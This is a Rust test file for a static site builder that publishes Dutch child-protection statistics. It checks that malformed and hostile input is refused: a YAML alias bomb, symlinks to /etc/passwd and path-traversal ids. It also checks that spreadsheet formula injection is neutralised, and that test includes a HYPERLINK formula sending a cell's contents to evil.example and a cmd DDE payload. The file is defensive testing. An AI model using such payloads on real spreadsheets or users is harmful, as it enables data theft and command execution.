//! Bad and hostile input: every case fails with exit code 1, a message naming the file
//! (and the line where there is one) and what to do, and leaves the previous output as it
//! was; legitimate oddities (BOM, CRLF, an empty figures file) build. Never a panic.
//! More broken sites are in build.rs.

use crate::site_test::*;

/// A page front matter with everything a publication needs.
const PUBLICATION: &str = "---\ntitle: T\ndate: 2021-05-18\nkind: persbericht\n---\nTekst.\n";

fn write(path: &'static str, text: impl AsRef<[u8]> + 'static) -> impl FnOnce(&TestSite) {
    move |s: &TestSite| s.write(path, text)
}

// -- malformed YAML in every kind of file --------------------------------------------------

#[test]
fn malformed_metrics_yaml() {
    assert_fails(
        write(
            "content/metrics.yaml",
            "- id: weglopers\n  label: [Weglopers\n",
        ),
        &["content/metrics.yaml:2:10", "label"],
    );
}

#[test]
fn malformed_figures_yaml() {
    assert_fails(
        write("content/years/2017/figures.yaml", "grooming: {value: 43\n"),
        &["content/years/2017/figures.yaml:2:"],
    );
}

#[test]
fn malformed_report_front_matter() {
    assert_fails(
        write(
            "content/years/2017/report.md",
            "---\ntitle: [Jaarverslag\ndate: 2018\n---\nTekst\n",
        ),
        &["content/years/2017/report.md:2:8", "title"],
    );
}

#[test]
fn malformed_publication_front_matter() {
    assert_fails(
        write(
            "content/publications/kapot.md",
            "---\ntitle: \"T\ndate: 2021\n---\n",
        ),
        &["content/publications/kapot.md:"],
    );
}

#[test]
fn malformed_page_front_matter() {
    assert_fails(
        write(
            "content/pages/kapot.md",
            "---\ntitle: T\n  order: : 1\n---\n",
        ),
        &["content/pages/kapot.md:3:"],
    );
}

// -- wrong types and impossible values -------------------------------------------------------

#[test]
fn themes_that_are_not_a_list() {
    assert_fails(
        |s| {
            s.replace(
                "content/site.yaml",
                "themes:\n",
                "themes: geen lijst\nthemas:\n",
            )
        },
        &["content/site.yaml:"],
    );
}

#[test]
fn a_value_that_is_text() {
    assert_fails(
        write("content/years/2017/figures.yaml", "grooming: veel\n"),
        &[
            "content/years/2017/figures.yaml:1:11",
            "`grooming`: `veel` is not a number written as digits",
        ],
    );
}

#[test]
fn a_stated_change_that_is_text() {
    assert_fails(
        write(
            "content/years/2017/figures.yaml",
            "grooming:\n  value: 43\n  stated_change: {percent: veel, since: 2016}\n",
        ),
        &["content/years/2017/figures.yaml:3:", "percent"],
    );
}

#[test]
fn an_enormous_number() {
    assert_fails(
        write("content/years/2017/figures.yaml", "grooming: 1e300\n"),
        &[
            "content/years/2017/figures.yaml:1:11",
            "`grooming`: `1e300` is not a number written as digits",
        ],
    );
}

#[test]
fn a_number_beyond_u64() {
    assert_fails(
        write(
            "content/years/2017/figures.yaml",
            "grooming: 99999999999999999999999\n",
        ),
        &["content/years/2017/figures.yaml:1", "implausibly large"],
    );
}

#[test]
fn not_a_number() {
    assert_fails(
        write("content/years/2017/figures.yaml", "grooming: .nan\n"),
        &[
            "content/years/2017/figures.yaml:1",
            "is not a number written as digits",
        ],
    );
}

#[test]
fn infinity() {
    assert_fails(
        write("content/years/2017/figures.yaml", "grooming: .inf\n"),
        &[
            "content/years/2017/figures.yaml:1",
            "is not a number written as digits",
        ],
    );
}

#[test]
fn minus_infinity() {
    assert_fails(
        write("content/years/2017/figures.yaml", "grooming: -.inf\n"),
        &[
            "content/years/2017/figures.yaml:1",
            "is not a number written as digits",
        ],
    );
}

#[test]
fn a_negative_decimal() {
    assert_fails(
        write("content/years/2017/figures.yaml", "grooming: -0.5\n"),
        &["content/years/2017/figures.yaml:1", "negative"],
    );
}

#[test]
fn a_figure_without_value_or_stated_change() {
    assert_fails(
        write(
            "content/years/2017/figures.yaml",
            "grooming:\n  source: cijfers-2017\n",
        ),
        &[
            "content/years/2017/figures.yaml:1",
            "`grooming` has no value",
        ],
    );
}

#[test]
fn a_stated_change_since_a_later_year() {
    assert_fails(
        write(
            "content/years/2017/figures.yaml",
            "grooming:\n  value: 43\n  stated_change: {percent: 5, since: 2018}\n",
        ),
        // At `since` itself (was the figure's key, line 1, before places had columns).
        &["content/years/2017/figures.yaml:3:38", "not before 2017"],
    );
}

#[test]
fn an_invalid_date() {
    assert_fails(
        |s| {
            s.replace(
                "content/years/2017/report.md",
                "date: 2018-05-10",
                "date: 2018-13-10",
            )
        },
        &[
            "content/years/2017/report.md:3:",
            "`2018-13-10` is not a date",
        ],
    );
}

#[test]
fn an_unknown_publication_kind() {
    assert_fails(
        write(
            "content/publications/blog.md",
            "---\ntitle: T\ndate: 2021\nkind: blog\n---\n",
        ),
        &[
            "content/publications/blog.md:4:",
            "unknown publication kind `blog`",
        ],
    );
}

/// A site of its own kinds: declared in site.yaml, with its words; a kind the site does
/// not declare is named with the ones it does.
#[test]
fn publication_kinds_the_site_declares() {
    let site = TestSite::new("basic")
        .with_replaced(
            "content/site.yaml",
            "  - {id: persbericht, label: Persbericht, plural: Persberichten}\n",
            "  - {id: persbericht, label: Persbericht, plural: Persberichten}\n  - {id: uitleen, label: Uitleenrapport, plural: Uitleenrapporten}\n",
        )
        .with_file(
            "content/publications/uitleen-2021.md",
            "---\ntitle: Uitleningen\ndate: 2021-03-01\nkind: uitleen\n---\nTekst.\n",
        );
    site.build_ok();
    assert_contains!(site.page("publicaties/index.html"), "Uitleenrapport, <time");
    let site = TestSite::new("basic").with_file(
        "content/publications/blog.md",
        "---\ntitle: T\ndate: 2021\nkind: persberict\n---\n",
    );
    site.build_in_process().expect_failure().stderr_contains(
        "content/publications/blog.md:4: unknown publication kind `persberict`",
    ).stderr_contains("hint: known kinds in site.yaml: persbericht, cijferrapport (did you mean `persbericht`?)");
}

#[test]
fn an_event_that_ends_before_it_starts() {
    assert_fails(
        |s| {
            s.replace(
                "content/site.yaml",
                "    from: 2020\n",
                "    from: 2020\n    to: 2019\n",
            )
        },
        &[
            "content/site.yaml",
            "event `Lockdowns` ends before it starts",
        ],
    );
}

#[test]
fn a_metric_with_an_unknown_theme() {
    assert_fails(
        |s| {
            s.replace(
                "content/metrics.yaml",
                "theme: verdwijningen\n  unit: dossiers",
                "theme: verdwijning\n  unit: dossiers",
            )
        },
        &["content/metrics.yaml:8", "unknown theme `verdwijning`"],
    );
}

// -- empty files -------------------------------------------------------------------------

#[test]
fn an_empty_site_yaml() {
    assert_fails(
        write("content/site.yaml", ""),
        &["content/site.yaml", "the key `title` is missing"],
    );
}

#[test]
fn an_empty_metrics_yaml() {
    assert_fails(
        write("content/metrics.yaml", ""),
        &["content/metrics.yaml: the catalogue is empty"],
    );
}

#[test]
fn an_empty_report() {
    assert_fails(
        write("content/years/2017/report.md", ""),
        &[
            "content/years/2017/report.md:1",
            "does not start with front matter",
        ],
    );
}

#[test]
fn an_empty_publication() {
    assert_fails(
        write("content/publications/leeg.md", ""),
        &[
            "content/publications/leeg.md:1",
            "does not start with front matter",
        ],
    );
}

#[test]
fn an_empty_figures_file_is_a_year_without_figures() {
    let site = TestSite::new("basic");
    site.write("content/years/2017/figures.yaml", "");
    site.replace(
        "content/years/2017/report.md",
        "Er waren {{ figure(id=\"grooming\") }} groomingdossiers ({{ change(id=\"grooming\") }}).",
        "Geen cijfers.",
    );
    site.replace("content/years/2017/report.md", "Jongeren zelf: {{ figure(id=\"aandeel-jongeren\") }} ({{ change(id=\"aandeel-jongeren\") }}).\nSinds 2016: {{ change(id=\"grooming\", since=2016) }}.", "");
    // 2020's report compares grooming with 2017 by name (a change never skips a missing
    // year by itself); without 2017's figures it names 2016 instead.
    site.replace(
        "content/years/2020/report.md",
        "change(id=\"grooming\", since=2017)",
        "change(id=\"grooming\", since=2016)",
    );
    site.build_ok();
    assert_contains!(
        site.page("2017/index.html"),
        "Voor dit jaar zijn nog geen cijfers opgenomen."
    );
}

// -- encodings ---------------------------------------------------------------------------

#[test]
fn bom_and_crlf_in_yaml_build() {
    let site = TestSite::new("basic");
    for file in [
        "content/site.yaml",
        "content/metrics.yaml",
        "content/years/2020/figures.yaml",
    ] {
        let text = site.read(file).replace('\n', "\r\n");
        site.write(file, format!("\u{feff}{text}"));
    }
    site.build_ok();
    assert_contains!(site.page("2020/index.html"), "1.050");
}

#[test]
fn non_utf8_in_figures() {
    assert_fails(
        write(
            "content/years/2017/figures.yaml",
            b"grooming: 43\nsexting: 135 # caf\xe9\n".as_slice(),
        ),
        &["content/years/2017/figures.yaml:2:19", "not valid UTF-8"],
    );
}

#[test]
fn non_utf8_in_a_template() {
    assert_fails(
        write(
            "templates/page.html",
            b"{% extends \"base.html\" %}\xff".as_slice(),
        ),
        &["templates/page.html:1:26", "not valid UTF-8"],
    );
}

// -- YAML attacks ------------------------------------------------------------------------

#[test]
fn deeply_nested_yaml() {
    let deep = format!("title: {}{}\n", "[".repeat(100_000), "]".repeat(100_000));
    let started = std::time::Instant::now();
    assert_fails(
        write("content/site.yaml", deep),
        &["content/site.yaml:1:40", "nested too deeply"],
    );
    assert!(started.elapsed().as_secs() < 20);
}

#[test]
fn an_alias_bomb() {
    // The "billion laughs": each level repeats the previous nine times.
    let mut yaml = String::from("- id: a0\n  label: A\n  theme: online\n  unit: d\n  description: x\n  keywords: &l0 [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
    for i in 1..10 {
        let prev = format!("*l{}", i - 1);
        yaml.push_str(&format!(
            "- id: a{i}\n  label: A\n  theme: online\n  unit: d\n  description: x\n  keywords: &l{i} [{}]\n",
            vec![prev; 9].join(",")
        ));
    }
    let started = std::time::Instant::now();
    assert_fails(
        write("content/metrics.yaml", yaml),
        &["content/metrics.yaml:"],
    );
    assert!(started.elapsed().as_secs() < 20, "the bomb was expanded");
}

#[test]
fn duplicate_keys_in_site_yaml() {
    assert_fails(
        |s| {
            s.replace(
                "content/site.yaml",
                "language: nl\n",
                "language: nl\ntitle: Nog een titel\n",
            )
        },
        &["content/site.yaml", "the key `title` appears twice"],
    );
}

#[test]
fn duplicate_keys_in_front_matter() {
    assert_fails(
        |s| {
            s.replace(
                "content/years/2017/report.md",
                "date: 2018-05-10\n",
                "date: 2018-05-10\ndate: 2018-06-01\n",
            )
        },
        &[
            "content/years/2017/report.md",
            "the key `date` appears twice",
        ],
    );
}

// -- sizes, links and names ----------------------------------------------------------------

#[test]
fn a_ten_megabyte_markdown_file() {
    let mut text = String::from(PUBLICATION);
    let paragraph = "Een lange tekst over de cijfers van Child Focus. ".repeat(40) + "\n\n";
    while text.len() < 10 * 1024 * 1024 {
        text.push_str(&paragraph);
    }
    assert_fails(
        write("content/publications/groot.md", text),
        &["content/publications/groot.md: the file is 10.0 MB; a report, publication or page may be at most 1 MB"],
    );
}

#[test]
fn a_markdown_file_over_one_megabyte_is_refused_and_one_under_builds() {
    // Odd Markdown just under 4 MB kept the parser's tree at 600 MB: documents stop at 1 MB.
    let brackets = |size: usize| format!("{PUBLICATION}{}", "[".repeat(size));
    assert_fails(
        write("content/publications/groot.md", brackets(1024 * 1024)),
        &["content/publications/groot.md: the file is 1.0 MB; a report, publication or page may be at most 1 MB"],
    );
    let site = TestSite::new("basic");
    site.write("content/publications/groot.md", brackets(1000 * 1000));
    site.build_ok();
    // YAML files keep the 4 MB limit.
    let figures = site.read("content/years/2020/figures.yaml");
    site.write(
        "content/years/2020/figures.yaml",
        format!("{figures}{}", "# opmerking\n".repeat(150_000)),
    );
    site.build_ok();
}

#[cfg(unix)]
#[test]
fn a_symlink_loop() {
    assert_fails(
        |s| {
            std::os::unix::fs::symlink(s.path("content/pages"), s.path("content/pages/lus"))
                .unwrap()
        },
        &["content/pages/lus: symbolic links are not followed"],
    );
}

#[cfg(unix)]
#[test]
fn a_symlink_out_of_the_root() {
    assert_fails(
        |s| {
            std::os::unix::fs::symlink("/etc/passwd", s.path("content/pages/wachtwoorden.md"))
                .unwrap()
        },
        &["content/pages/wachtwoorden.md: symbolic links are not followed"],
    );
}

#[cfg(unix)]
#[test]
fn a_symlinked_template() {
    assert_fails(
        |s| {
            std::fs::create_dir_all(s.path("templates")).unwrap();
            std::os::unix::fs::symlink("/etc/hostname", s.path("templates/page.html")).unwrap()
        },
        &["templates/page.html: symbolic links are not followed"],
    );
}

#[test]
fn a_metric_id_with_dot_dot() {
    assert_fails(
        |s| s.replace("content/metrics.yaml", "- id: leeg", "- id: ../leeg"),
        &[
            "content/metrics.yaml:29",
            "metric id `../leeg` is not a valid id",
        ],
    );
}

#[test]
fn a_theme_id_with_a_slash() {
    assert_fails(
        |s| s.replace("content/site.yaml", "  - id: online\n", "  - id: on/line\n"),
        &["content/site.yaml", "theme id `on/line` is not a valid id"],
    );
}

#[test]
fn a_metric_id_with_spaces() {
    assert_fails(
        |s| s.replace("content/metrics.yaml", "- id: leeg", "- id: nog leeg"),
        &[
            "content/metrics.yaml:29",
            "metric id `nog leeg` is not a valid id",
        ],
    );
}

#[test]
fn a_publication_slug_with_spaces() {
    assert_fails(
        write("content/publications/mijn bericht.md", PUBLICATION),
        &[
            "content/publications/mijn bericht.md",
            "`mijn bericht` is not a valid slug",
        ],
    );
}

#[test]
fn year_folder_0000() {
    assert_fails(
        write("content/years/0000/figures.yaml", "grooming: 1\n"),
        &["content/years/0000", "`0000` is not a year"],
    );
}

#[test]
fn year_folder_99999() {
    assert_fails(
        write("content/years/99999/figures.yaml", "grooming: 1\n"),
        &["content/years/99999", "`99999` is not a year"],
    );
}

#[test]
fn a_stray_file_in_a_year() {
    assert_fails(
        write("content/years/2017/notities.txt", "x"),
        &[
            "content/years/2017/notities.txt",
            "unexpected file in a year folder",
        ],
    );
}

// -- templates ---------------------------------------------------------------------------

#[test]
fn a_template_with_a_missing_filter() {
    assert_fails(
        write("templates/page.html", "{% extends \"base.html\" %}\n{% block content %}\n{{ page.title | bestaatniet }}\n{% endblock content %}"),
        &["templates/page.html:3:"],
    );
}

#[test]
fn a_template_that_includes_a_missing_one() {
    assert_fails(
        write("templates/page.html", "{% extends \"base.html\" %}\n{% block content %}\n{% include \"partials/weg.html\" %}\n{% endblock content %}"),
        &["partials/weg.html"],
    );
}

#[test]
fn a_template_that_extends_a_missing_one() {
    assert_fails(
        write(
            "templates/page.html",
            "{% extends \"weg.html\" %}\n{% block content %}{% endblock content %}",
        ),
        &["templates/page.html", "weg.html"],
    );
}

#[test]
fn a_shortcode_that_is_not_closed() {
    assert_fails(
        |s| {
            s.replace(
                "content/pages/over.md",
                "Een organisatie",
                "{{ figure(id=\"grooming\", year=2017)\n\nEen organisatie",
            )
        },
        &["content/pages/over.md:8:1", "not closed"],
    );
}

#[test]
fn a_shortcode_with_an_unknown_argument() {
    assert_fails(
        |s| {
            s.replace(
                "content/pages/over.md",
                "Een organisatie",
                "{{ figure(id=\"grooming\", jaar=2017) }}\n\nEen organisatie",
            )
        },
        &[
            "content/pages/over.md:8:1",
            "`figure` has no argument `jaar`",
        ],
    );
}

// -- control characters --------------------------------------------------------------------
// Refused wherever they are, typed or written as an escape: invisible, and they make the
// Atom feed ill-formed XML. Each is named at its own line and column.

#[test]
fn yaml_escapes_for_control_characters_in_the_site_title() {
    assert_fails(
        |s| {
            s.replace(
                "content/site.yaml",
                "title: Testrapport",
                r#"title: "Test\0rap\x07port\e""#,
            )
        },
        &[
            "content/site.yaml:1:13: `\\0` in this quoted text is an invisible control character (U+0000)",
            "content/site.yaml:1:18: `\\x07` in this quoted text is an invisible control character (U+0007)",
            "content/site.yaml:1:26: `\\e` in this quoted text is an invisible control character (U+001B)",
            "hint: remove `\\x07`",
        ],
    );
}

#[test]
fn a_typed_control_character_in_metrics_yaml() {
    assert_fails(
        |s| {
            s.replace(
                "content/metrics.yaml",
                "label: Grooming",
                "label: Groo\u{1b}[2Jming",
            )
        },
        &[
            "content/metrics.yaml:14:14: an invisible control character (U+001B) is in the text",
            "hint: delete it",
        ],
    );
}

#[test]
fn control_characters_in_figures_yaml_are_all_reported() {
    assert_fails(
        write(
            "content/years/2017/figures.yaml",
            "grooming: {value: 43, source: \"cijfers\\a\"}\nsexting: {value: 135, note: \"a\\u0008b\"}\n",
        ),
        &[
            "content/years/2017/figures.yaml:1:39: `\\a` in this quoted text is an invisible control character (U+0007)",
            "content/years/2017/figures.yaml:2:31: `\\u0008` in this quoted text",
        ],
    );
}

/// The theme's interface strings get the same check as content YAML (they reach every
/// page and the feed); before, a typed one gave "control characters are not allowed at
/// position N" on line 1, and an escaped one was published.
#[test]
fn control_characters_in_the_interface_strings() {
    let builtin = include_str!("../../templates/i18n/nl.yaml");
    let line = builtin.lines().count() + 1;
    let typed = format!(
        "templates/i18n/nl.yaml:{line}:12: an invisible control character (U+0007) is in the text"
    );
    assert_fails(
        |s| {
            s.write(
                "templates/i18n/nl.yaml",
                format!("{builtin}extra: \"bel\u{7}\"\n"),
            )
        },
        &[&typed, "hint: delete it"],
    );
    let escaped = format!(
        "templates/i18n/nl.yaml:{line}:12: `\\a` in this quoted text is an invisible control character (U+0007)"
    );
    assert_fails(
        |s| {
            s.write(
                "templates/i18n/nl.yaml",
                format!("{builtin}extra: \"bel\\a\"\n"),
            )
        },
        &[&escaped, "hint: remove `\\a`"],
    );
}

#[test]
fn control_characters_in_a_report_front_matter_and_body() {
    assert_fails(
        write(
            "content/years/2017/report.md",
            "---\ntitle: Jaarverslag\ndate: 2018\nsummary: \"Kort\\x1b\"\n---\nTekst\u{7} met &#7; en &#x1B;.\n",
        ),
        &[
            "content/years/2017/report.md:4:15: `\\x1b` in this quoted text is an invisible control character (U+001B)",
            "content/years/2017/report.md:6:6: an invisible control character (U+0007) is in the text",
            "content/years/2017/report.md:6:12: `&#7;` is an invisible control character (U+0007)",
            "content/years/2017/report.md:6:20: `&#x1B;` is an invisible control character (U+001B)",
        ],
    );
}

#[test]
fn noncharacters_and_c1_controls_are_refused() {
    assert_fails(
        |s| {
            s.write(
                "content/publications/ffff.md",
                "---\ntitle: \"Niet\\uFFFE\"\ndate: 2021\nkind: persbericht\n---\nTekst\u{ffff}.\n",
            );
            // U+0092: a Windows apostrophe read in the wrong encoding.
            s.write("content/pages/plak.md", "---\ntitle: Plak\n---\nIt\u{92}s.\n");
        },
        &[
            "content/publications/ffff.md:2:13: `\\uFFFE` in this quoted text is a code that is not a character (U+FFFE)",
            "content/publications/ffff.md:6:6: a code that is not a character (U+FFFF) is in the text",
            "content/pages/plak.md:4:3: an invisible control character (U+0092) is in the text",
        ],
    );
}

/// Awkward text that is allowed: XML specials, quotes, emoji, right-to-left marks and
/// embeddings, a line separator (U+2028), a tab; escaped or typed.
const AWKWARD: &str =
    "Cijfers & <feiten> \"dubbel\" 'enkel' 😀 \u{200f}\u{202b}نص\u{202c} a\u{2028}b\tc";

#[test]
fn awkward_but_allowed_text_builds_and_the_feed_and_sitemap_are_well_formed() {
    let site = TestSite::new("basic");
    // YAML cannot hold U+2028 typed (it is a line break there): its escape is `\L`.
    // The marks are typed into the YAML; the line separator and the tab are escapes.
    let yaml =
        "\"Cijfers & <feiten> \\\"dubbel\\\" 'enkel' 😀 \u{200f}\u{202b}نص\u{202c} a\\Lb\\tc\"";
    site.replace(
        "content/site.yaml",
        "title: Testrapport",
        &format!("title: {yaml}"),
    );
    site.replace(
        "content/publications/persbericht-2020.md",
        "title: Persbericht over 2020",
        &format!("title: {yaml}"),
    );
    site.replace(
        "content/publications/persbericht-2020.md",
        "summary: De cijfers van 2020.",
        "summary: 'Samenvatting & <meer> \"zo\" \u{200f}rtl 😀'",
    );
    site.replace(
        "content/publications/persbericht-2020.md",
        "Weglopers:",
        &format!("{AWKWARD} &amp; &#x2028; &#169;\n\nWeglopers:"),
    );
    site.build_ok();

    let atom = site.read("public/atom.xml");
    let doc = roxmltree::Document::parse(&atom).unwrap_or_else(|e| panic!("{e}\n{atom}"));
    let feed_title = doc
        .root_element()
        .children()
        .find(|n| n.has_tag_name("title"))
        .unwrap();
    assert_eq!(feed_title.text(), Some(AWKWARD));
    let entry_texts: Vec<&str> = doc
        .descendants()
        .filter(|n| n.has_tag_name("title") || n.has_tag_name("summary"))
        .filter_map(|n| n.text())
        .collect();
    assert!(entry_texts.contains(&AWKWARD), "{entry_texts:?}");
    assert!(
        entry_texts.contains(&"Samenvatting & <meer> \"zo\" \u{200f}rtl 😀"),
        "{entry_texts:?}"
    );
    let sitemap = site.read("public/sitemap.xml");
    let doc = roxmltree::Document::parse(&sitemap).unwrap();
    assert!(doc.descendants().filter(|n| n.has_tag_name("loc")).count() > 10);
    // In the page, escaped as text.
    let page = site.read("public/publicaties/persbericht-2020/index.html");
    assert_contains!(page, "Cijfers &amp; &lt;feiten&gt;");
    assert_lacks!(page, "<feiten>");
}

// -- CSV cells that a spreadsheet would run ----------------------------------------------

/// Every CSV file of the site, parsed: its path, its header and its rows.
fn every_csv(site: &TestSite) -> Vec<(String, Vec<String>, Vec<Vec<String>>)> {
    let public = site.path("public");
    let mut files = Vec::new();
    for entry in walkdir::WalkDir::new(&public) {
        let entry = entry.unwrap();
        if entry.path().extension().is_some_and(|e| e == "csv") {
            let mut reader = csv::Reader::from_path(entry.path()).unwrap();
            let header = reader.headers().unwrap().iter().map(String::from).collect();
            let rows = reader
                .records()
                .map(|r| r.unwrap().iter().map(String::from).collect())
                .collect();
            let rel = entry.path().strip_prefix(&public).unwrap();
            files.push((rel.display().to_string(), header, rows));
        }
    }
    files
}

#[test]
fn csv_cells_that_would_run_as_formulas_are_neutralised_in_every_csv() {
    let site = TestSite::new("basic");
    site.replace(
        "content/metrics.yaml",
        "label: Weglopers",
        r#"label: '=HYPERLINK("https://evil.example/?"&A1,"klik")'"#,
    );
    site.replace(
        "content/metrics.yaml",
        "unit: nieuwe dossiers",
        "unit: \"+cmd|' /C calc'!A0\"",
    );
    site.replace(
        "content/years/2020/figures.yaml",
        "note: Tijdens de lockdowns liepen minder jongeren weg.",
        "note: \"-2+3\"",
    );
    // 2019's value below comes from another publisher: declared comparable (issue 24).
    site.replace(
        "content/years/2020/figures.yaml",
        "  stated_change: {percent: -25, since: 2019}",
        "  stated_change: {percent: -25, since: 2019}\n  comparable_with: 2019",
    );
    site.write(
        "content/site.yaml",
        format!(
            "{}not_figures:\n  \"-2+3\": a formula\n  \"=1+1\": a formula\n",
            site.read("content/site.yaml")
        ),
    );
    site.replace(
        "content/years/2019/figures.yaml",
        "weglopers: {value: 1400, source: persbericht-2020}",
        "weglopers: {value: 1400, source: \"@SUM(A1:A9)\", note: \"\\t=1+1\"}",
    );
    site.replace(
        "content/years/2020/figures.yaml",
        "grooming: {value: 129, source: persbericht-2020}",
        "grooming: {value: 129, source: persbericht-2020, note: \"\\r=1+1\"}",
    );
    site.build_ok();

    let files = every_csv(&site);
    assert!(
        files.len() >= 10,
        "{:?}",
        files.iter().map(|f| &f.0).collect::<Vec<_>>()
    );
    let numeric = [
        "year",
        "value",
        "stated_change_percent",
        "stated_change_since",
        "replaces_value",
    ];
    let mut negative_numbers = 0;
    for (path, header, rows) in &files {
        let is_number = |column: usize| numeric.contains(&header[column].as_str());
        for row in rows {
            for (column, cell) in row.iter().enumerate() {
                if is_number(column) {
                    assert!(
                        cell.is_empty() || cell.parse::<f64>().is_ok(),
                        "{path}: {cell:?} is not a number"
                    );
                    negative_numbers += usize::from(cell.starts_with('-'));
                } else {
                    assert!(
                        !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                        "{path}: {cell:?} would run as a formula"
                    );
                }
            }
        }
    }
    // The two negative stated changes (-25, -30) stay numbers, in figures.csv and in
    // their metric's file.
    assert_eq!(negative_numbers, 4);

    let (_, header, rows) = files.iter().find(|f| f.0 == "data/figures.csv").unwrap();
    let column = |name: &str| header.iter().position(|h| h == name).unwrap();
    let row = rows
        .iter()
        .find(|r| r[column("year")] == "2020" && r[column("metric")] == "weglopers")
        .unwrap();
    assert_eq!(
        row[column("label")],
        r#"'=HYPERLINK("https://evil.example/?"&A1,"klik")"#
    );
    assert_eq!(row[column("unit")], "'+cmd|' /C calc'!A0");
    assert_eq!(row[column("note")], "'-2+3");
    assert_eq!(row[column("stated_change_percent")], "-25");
    let row = rows
        .iter()
        .find(|r| r[column("year")] == "2019" && r[column("metric")] == "weglopers")
        .unwrap();
    assert_eq!(row[column("source")], "'@SUM(A1:A9)");
    assert_eq!(row[column("note")], "'\t=1+1");
    let row = rows
        .iter()
        .find(|r| r[column("year")] == "2020" && r[column("metric")] == "grooming")
        .unwrap();
    assert_eq!(row[column("note")], "'\r=1+1");
    // JSON is not opened by spreadsheets: the label as written.
    let json: serde_json::Value =
        serde_json::from_str(&site.read("public/data/figures.json")).unwrap();
    assert!(json
        .as_array()
        .unwrap()
        .iter()
        .any(|r| r["label"] == r#"=HYPERLINK("https://evil.example/?"&A1,"klik")"#));
}

// -- numbers -------------------------------------------------------------------------------

fn stated_change(change: &'static str) -> impl FnOnce(&TestSite) {
    move |s: &TestSite| {
        s.replace(
            "content/years/2020/figures.yaml",
            "stated_change: {percent: -30, since: 2018}",
            change,
        )
    }
}

#[test]
fn a_stated_change_of_1e308_percent() {
    assert_fails(
        stated_change("stated_change: {percent: 1e308, since: 2018}"),
        &["content/years/2020/figures.yaml:8:28: `ontvoeringen`: the stated change `1e308` is not a number written as digits"],
    );
}

#[test]
fn a_stated_change_below_minus_100_percent() {
    assert_fails(
        stated_change("stated_change: {percent: -250, since: 2018}"),
        &["content/years/2020/figures.yaml:8:28: `ontvoeringen`: the stated change is -250%, but nothing can fall by more than 100%"],
    );
}

/// Issue 26, case 18: the problems of one figures.yaml, those of how a number is typed
/// and those of its range, in one run (before, `-250` and `since: 1000` showed only
/// after the `1e308` and the `.nan` were fixed).
#[test]
fn every_problem_of_one_figures_file_in_one_run() {
    assert_fails(
        |s| {
            s.write(
                "content/years/2020/figures.yaml",
                "weglopers:\n  value: 1050\n  source: persbericht-2020\n  \
                 stated_change: {percent: 1e308, since: 1000}\n\
                 ontvoeringen:\n  source: persbericht-2020\n  \
                 stated_change: {percent: -250, since: 2018}\n\
                 grooming: {value: .nan, source: persbericht-2020}\n\
                 sexting: {value: -200, source: persbericht-2020}\n\
                 sextortion: {value: 12, source: persbericht-2020, stated_change: {percent: 5, since: 2021}}\n",
            )
        },
        &[
            "figures.yaml:4:28: `weglopers`: the stated change `1e308` is not a number written as digits",
            "figures.yaml:4:42: `weglopers`: the stated change is since 1000, which is not a year",
            "figures.yaml:7:28: `ontvoeringen`: the stated change is -250%, but nothing can fall by more than 100%",
            "figures.yaml:8:19: `grooming`: `.nan` is not a number written as digits",
            "figures.yaml:9:18: `sexting` is negative (-200)",
            "the stated change is since 2021, which is not before 2020",
        ],
    );
}

#[test]
fn a_stated_change_that_is_not_a_number() {
    assert_fails(
        stated_change("stated_change: {percent: .nan, since: 2018}"),
        &["content/years/2020/figures.yaml:8:28: `ontvoeringen`: the stated change `.nan` is not a number written as digits"],
    );
}

#[test]
fn a_stated_change_since_minus_5() {
    assert_fails(
        stated_change("stated_change: {percent: -30, since: -5}"),
        &["content/years/2020/figures.yaml:8:40: `ontvoeringen`: the stated change is since -5, which is not a year"],
    );
}

#[test]
fn a_stated_change_since_the_year_1000() {
    assert_fails(
        stated_change("stated_change: {percent: -30, since: 1000}"),
        &["content/years/2020/figures.yaml:8:40: `ontvoeringen`: the stated change is since 1000, which is not a year"],
    );
}

#[test]
fn a_stated_change_since_its_own_year_is_placed() {
    assert_fails(
        stated_change("stated_change: {percent: -30, since: 2020}"),
        &["content/years/2020/figures.yaml:8:40: `ontvoeringen`: the stated change is since 2020, which is not before 2020"],
    );
}

#[test]
fn an_integer_above_2_to_the_53() {
    // Read as a 64-bit float it is 9007199254740992: it would be published one less.
    assert_fails(
        write(
            "content/years/2017/figures.yaml",
            "sexting: 135\ngrooming:\n  value: 9007199254740993\n",
        ),
        &["content/years/2017/figures.yaml:3:10: `grooming` is implausibly large (9007199254740993)"],
    );
}

#[test]
fn the_largest_exact_integer_is_published_exactly() {
    let site = TestSite::new("basic");
    site.write(
        "content/years/2019/figures.yaml",
        "weglopers: {value: 1400, source: persbericht-2020}\nontvoeringen: {value: 200, source: persbericht-2020}\ngrooming: 9007199254740991\n",
    );
    site.build_ok();
    assert_contains!(
        site.read("public/data/figures.csv"),
        "\n2019,grooming,Grooming,online,dossiers,9007199254740991,"
    );
    assert_contains!(
        site.read("public/data/figures.json"),
        "\"value\": 9007199254740991,"
    );
    assert_contains!(
        site.read("public/grafieken/grooming.csv"),
        "\n2019,grooming,Grooming,dossiers,9007199254740991,"
    );
    assert_contains!(
        site.page("cijfers/grooming/index.html"),
        "9.007.199.254.740.991"
    );
}

#[test]
fn minus_zero_is_published_as_zero() {
    let site = TestSite::new("basic");
    site.write(
        "content/years/2019/figures.yaml",
        "weglopers: {value: 1400, source: persbericht-2020}\nontvoeringen: {value: 200, source: persbericht-2020}\nsexting: -0\ngrooming: -0\naandeel-jongeren: -0.0\n",
    );
    // A value with a decimal point needs a metric that declares decimals.
    site.replace(
        "content/metrics.yaml",
        "  unit: \"%\"\n",
        "  unit: \"%\"\n  decimals: 1\n",
    );
    site.build_ok();
    for (path, _, rows) in every_csv(&site) {
        for row in rows {
            assert!(!row.iter().any(|c| c == "-0"), "{path}: {row:?}");
        }
    }
    let csv = site.read("public/data/figures.csv");
    assert_contains!(csv, "\n2019,sexting,Sexting,online,dossiers,0,");
    assert_contains!(csv, "\n2019,aandeel-jongeren,Aandeel jongeren,online,%,0,");
    let chart_csv = site.read("public/grafieken/thema-online-1.csv");
    assert_contains!(chart_csv, "\n2019,grooming,Grooming,dossiers,0,,,,\n");
    assert_contains!(chart_csv, "\n2019,sexting,Sexting,dossiers,0,,,,\n");
    let json = site.read("public/data/figures.json");
    // (As a number: the open data now holds dates such as "2021-05-18".)
    assert_lacks!(json, ": -0");
    let page = site.page("cijfers/sexting/index.html");
    assert_contains!(page, "2019</th><td>0</td>");
    assert_lacks!(page, "\u{2212}0<");
